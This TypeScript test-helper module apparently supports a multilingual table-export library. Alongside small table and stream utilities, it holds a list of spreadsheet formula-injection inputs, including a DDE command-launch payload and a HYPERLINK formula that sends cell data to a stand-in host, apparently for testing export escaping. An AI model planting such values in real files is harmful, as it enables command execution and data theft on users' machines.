import type { TimeZone } from '@khorgos/shared/centre/site';
import type { DocumentPieces, Table, Wording } from '../tables/table.ts';

export const almaty = 'Asia/Almaty' as TimeZone;

export function worded(text: string): Wording {
  return { en: text, kk: `${text} kk`, ru: `${text} ru`, zh: `${text} zh` };
}

/** A table with one column of texts. */
export function textTable(texts: readonly string[]): Table<string> {
  return {
    name: 'texts',
    title: worded('Texts'),
    columns: [{ name: 'text', heading: worded('Text'), kind: 'text', of: (text) => text }],
    rows: texts,
    notes: [],
  };
}

/** A document as a reader holds it once all of it has come. */
export async function whole(pieces: DocumentPieces): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const piece of pieces) parts.push(Buffer.from(piece));
  return Buffer.concat(parts);
}

/** What people have put into tables to make a spreadsheet run it. */
export const injections: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '  =1+1',
  '\u00A0=1+1',
  '\uFEFF=1+1',
  '\u0000=1+1',
  '\u0001@SUM(A1)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '=HYPERLINK("http://example.invalid?x="&A1,"here")',
  '"=1+1"',
  '","=1+1',
  '";=1+1',
  'x;=1+1',
  'x;@SUM(A1)',
  'x\t=1+1',
  'two lines\n=1+1',
  'two lines\r\n-1+1',
  '_x003D_1+1',
  '<f>1+1</f>',
  '</t></is></c><c><f>1+1</f></c>',
  ']]><f>1+1</f>',
  '&#61;1+1',
];
